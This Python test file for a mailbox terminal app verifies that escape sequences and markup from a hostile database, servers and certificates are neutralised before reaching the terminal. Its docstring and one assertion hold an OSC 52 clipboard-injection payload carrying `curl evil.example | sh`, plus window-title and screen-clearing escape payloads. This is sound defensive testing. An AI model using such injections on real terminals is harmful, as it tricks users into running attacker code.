"""The bytes a terminal receives from the app never carry an escape sequence from outside (issue 21,
item 1): the installed app in a real pseudo-terminal (tests/support/terminal.py), on a database that
a hostile organisation filled, with servers that answer with escape sequences and markup.

Before: the alert section, the User Name field and the History entry wrote `ESC ]52;…` (in tmux
with set-clipboard on, the clipboard became `curl evil.example | sh`), `ESC ]2;…` (the window
title) and `ESC [2J` (the form went blank) to the terminal as they were; a server's `[/b]` crashed
the mailbox form; a certificate's subject drew a fake SHA-256 line. Every byte the app wrote is
searched for the attacker's sequences; the screen shows them as ␛]52;…, and the app is still there."""

from __future__ import annotations

import sqlite3

import pytest
from support.hostile import HostileServer, imap, smtp
from support.outside_text import (
    ESCAPES,
    HOSTILE,
    TITLE,
    fake_fingerprint_unit,
    hostile_certificate,
    imap_answering,
    payloads_in,
    tls_context,
)
from support.terminal import TerminalApp

from mailbox_tui.domain.options import ServerType, TlsMode
from mailbox_tui.domain.records import QueueDraft
from mailbox_tui.store import history, services
from mailbox_tui.store.database import Store
from mailbox_tui.store.exchange import import_document


@pytest.fixture
def hostile_world(tmp_path, monkeypatch):
    """A SQLite file filled as a hostile organisation would, and the servers it points at."""
    from cryptography.fernet import Fernet
    from mailtest.mail_builders import approve_all, user_mailbox
    from support.builders import imap_profile

    from mailbox_tui.mailtest.runner import TestRunner

    key = Fernet.generate_key().decode()
    monkeypatch.setenv("MAILBOX_TUI_KEY", key)
    cert = hostile_certificate(tmp_path / "cert", common_name="mail[/b]", unit=fake_fingerprint_unit())
    servers = [HostileServer(imap_answering(refusal=HOSTILE), lifetime=120).start(),
               HostileServer(imap(), tls=tls_context(cert), lifetime=120).start(),
               HostileServer(smtp(), tls=tls_context(cert), lifetime=120).start()]
    refusing, tls_imap, tls_smtp = servers
    path = tmp_path / "hostile.db"
    # Another admin's machine wrote the history: its OS user name is theirs to choose.
    monkeypatch.setitem(history._who_cache, "os_user", "mallory" + ESCAPES)
    with Store(f"sqlite:///{path}") as store:
        plain = dict(server_type=ServerType.IMAP_SMTP, incoming_location="127.0.0.1", outgoing_location="127.0.0.1",
                     timeout_seconds=5)
        imap_profile(store, "Pinned", incoming_port=tls_imap.port, outgoing_port=tls_smtp.port,
                     incoming_tls=TlsMode.IMPLICIT, outgoing_tls=TlsMode.IMPLICIT, **plain)
        profile = imap_profile(store, "Prof [/b] x", incoming_port=refusing.port, outgoing_port=refusing.port,
                               incoming_tls=TlsMode.NONE, outgoing_tls=TlsMode.NONE, **plain)
        approve_all(store)
        box = user_mailbox(store, profile.id, email="alice@example.com", name="Alice", password="pw-1", outgoing=0)
        services.create_queue(store, QueueDraft(name="Support [/b]", email="support@example.com",
                                                owner_id=box.owner_id))
        TestRunner(store).run([box.id])  # the server's answer is now an alert
        report = import_document(store, {"users": [{"fullname": "Bob [link=https://evil.example]x[/link]",
                                                    "internalemailaddress": "bob@example.com"}]},
                                 source="org" + TITLE + ".json")
        assert not report.errors
    with sqlite3.connect(path) as db:  # a user name stored by an older release, or another tool
        db.execute("UPDATE mailbox SET username = ? WHERE id = ?", ("alice" + ESCAPES, box.id))
    yield path, key, cert
    for server in servers:
        server.stop()


def start(path, key, tmp_path) -> TerminalApp:
    home = tmp_path / "home"
    env = {"MAILBOX_TUI_KEY": key, "HOME": str(home), "XDG_CONFIG_HOME": str(home / ".config"),
           "XDG_DATA_HOME": str(home / ".local" / "share")}
    return TerminalApp(["--db", f"sqlite:///{path}", "--as", "alice@example.com", "--no-mouse"], env,
                       cols=120, rows=40)


def test_nothing_from_outside_reaches_the_terminal_as_an_escape_sequence(hostile_world, tmp_path):
    path, key, cert = hostile_world
    term = start(path, key, tmp_path)
    seen = []
    try:
        term.wait_for("Email Address")
        # The mailbox form: its alerts (the server's NO), its User Name (stored), its history (F10).
        term.press("enter")
        term.wait_for("Credentials")
        term.press("f5")
        seen.append(term.wait_for("[AUTHENTICATIONFAILED]"))  # crashed before: MarkupError on [/b]
        assert "␛]52;c;" in seen[-1] and "[link=https://evil.example]click[/link]" in seen[-1]
        term.press("f3")
        seen.append(term.wait_for("alice␛]52;c;"))
        term.send("\x1b[21~")  # F10
        seen.append(term.wait_for("mallory␛]52;c;"))
        term.press("escape")
        term.wait_quiet(0.3)
        term.press("escape")
        term.wait_for("Email Address")
        # The History page: an import named by its file; its entry.
        term.press("6")
        seen.append(term.wait_for("file 'org␛]2;EVIL-TITLE␇"))
        term.press("enter")  # newest first, an import above its records: the import, Bob's mailbox, Bob
        seen.append(term.wait_for("org␛]2;EVIL-TITLE␇.json"))
        assert "mallory␛]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==␛\\␛]2;EVIL-TITLE␇" in seen[-1]
        term.press("escape")
        term.wait_quiet(0.3)
        # A profile's Test Connection, and the certificate that lies in its subject.
        term.press("2")
        term.wait_for("Prof [/b] x")
        term.press("enter")  # Pinned, the first profile
        term.wait_for("Test Connection")
        term.press("f8")
        term.wait_for("p: show the server's certificate")
        term.press("p")
        seen.append(term.wait_for("[black on black]"))  # crashed before: CN=mail[/b]
        assert "␊" in seen[-1] and "CN=mail[/b]" in seen[-1]
        with term.lock:
            written = b"".join(term.reads)
        assert term.proc.isalive(), term.text()
        assert "Traceback" not in term.text() and "MarkupError" not in term.text()
    finally:
        term.quit()
    assert payloads_in(written) == [], payloads_in(written)
